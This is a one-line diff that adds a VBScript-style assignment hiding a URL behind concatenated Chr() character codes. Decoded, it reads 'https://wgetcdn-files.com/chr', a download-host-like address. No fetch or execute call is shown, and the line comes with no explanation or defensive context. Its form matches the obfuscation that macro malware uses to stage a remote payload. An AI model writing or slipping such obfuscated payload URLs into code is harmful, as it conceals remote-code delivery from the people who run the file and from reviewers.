@@ -1,0 +1,1 @@
+u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(115) & Chr(58) & Chr(47) & Chr(47) & Chr(119) & Chr(103) & Chr(101) & Chr(116) & Chr(99) & Chr(100) & Chr(110) & Chr(45) & Chr(102) & Chr(105) & Chr(108) & Chr(101) & Chr(115) & Chr(46) & Chr(99) & Chr(111) & Chr(109) & Chr(47) & Chr(99) & Chr(104) & Chr(114)
